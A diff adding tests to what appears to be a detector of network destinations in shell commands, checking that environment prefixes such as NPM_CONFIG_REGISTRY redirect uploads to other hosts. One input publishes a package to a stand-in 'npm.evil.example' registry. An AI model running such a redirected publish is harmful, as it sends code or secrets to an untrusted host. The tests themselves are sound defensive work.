@@ -173,3 +173,17 @@ describe('cloud CLIs', () => {
     assert.deepEqual(await sinks('cargo build --release'), []);
   });
 });
+
+describe('destination environment prefixes', () => {
+  it('GH_HOST, NPM_CONFIG_REGISTRY, TWINE_REPOSITORY_URL replace the default host', async () => {
+    assert.deepEqual((await one('GH_HOST=ghe.corp.example gh api /user')).hosts, ['ghe.corp.example']);
+    assert.deepEqual((await one('NPM_CONFIG_REGISTRY=https://npm.evil.example npm publish')).hosts, [
+      'npm.evil.example',
+    ]);
+    assert.deepEqual(
+      (await one('TWINE_REPOSITORY_URL=https://up.example/legacy/ twine upload dist/*')).hosts,
+      ['up.example'],
+    );
+    assert.deepEqual((await one('FOO=1 npm publish')).hosts, ['default:registry.npmjs.org']);
+  });
+});
